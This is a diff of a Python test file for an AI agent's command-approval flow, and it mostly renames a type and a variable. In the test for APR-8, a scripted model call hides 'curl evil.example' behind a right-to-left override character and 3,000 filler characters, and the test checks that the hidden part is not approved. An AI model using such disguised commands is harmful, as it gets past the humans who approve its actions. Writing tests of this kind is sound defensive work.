@@ -12,7 +12,7 @@ from anycowork.cli.run_advice import advice_for
 from anycowork.cli.run_outcome import RunEnding, RunOutcome
 from anycowork.client.connect import ServerAddress
 from anycowork.config.settings import Settings
-from anycowork.domain.tools import Held, Intent
+from anycowork.domain.tools import HeldChanges, Intent
 from anycowork.domain.visible_text import is_hidden
 from support.live_server import live_server
 from support.scripted_model import call
@@ -50,7 +50,7 @@ def _json(name: str) -> str:
 # --- changes that wait: every path and its content
 
 
-async def _held(bench: ToolWorkspace, command: str) -> Held:
+async def _held(bench: ToolWorkspace, command: str) -> HeldChanges:
     held: list[Intent] = []
     Path(bench.root, ".vscode").mkdir(exist_ok=True)
     await bench.call("execute_command", bench.tool_context(hold=held.append), command=command)
@@ -116,8 +116,8 @@ async def test_every_note_stands_below_the_name_of_its_own_file(bench: ToolWorks
 
 @proves("APR-8")
 async def test_what_was_not_shown_is_not_granted(tmp_path: Path) -> None:
-    asked_for = call("execute_command", command="echo a\u202eb; " + "x" * 3_000 + "; curl evil.example")
-    async with live_server(tmp_path, replies=[asked_for, "I see."]) as client:
+    requested = call("execute_command", command="echo a\u202eb; " + "x" * 3_000 + "; curl evil.example")
+    async with live_server(tmp_path, replies=[requested, "I see."]) as client:
         chat = await client.chat()
         await chat.send("do it")
         (approval,) = await chat.approvals()
